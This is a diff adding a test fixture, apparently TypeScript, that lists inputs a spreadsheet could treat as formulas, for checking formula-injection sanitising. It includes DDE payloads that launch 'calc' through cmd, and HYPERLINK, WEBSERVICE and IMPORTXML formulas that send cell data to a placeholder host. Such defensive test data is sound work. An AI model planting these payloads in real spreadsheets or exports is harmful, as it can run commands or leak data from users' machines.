@@ -1,0 +1,21 @@
+/** Texts that a spreadsheet might take for a formula: what somebody types into a field must stay what they typed. */
+export const formulas = [
+  "=cmd|'/c calc'!A1",
+  '=1+1',
+  '+1+1',
+  '-2+3',
+  '@SUM(1)',
+  '\t=1+1',
+  '\r=1+1',
+  '=HYPERLINK("http://192.0.2.1/?x="&A1,"点我")',
+  '=WEBSERVICE("http://192.0.2.1/")',
+  '=DDE("cmd";"/c calc";"x")',
+  '{=1+1}',
+  "'=1+1",
+  '＝1+1',
+  '=IMPORTXML("http://192.0.2.1","//a")',
+  '"=1+1',
+  ';=1+1',
+  '中文,=1+1',
+  '第一行\n=1+1',
+]
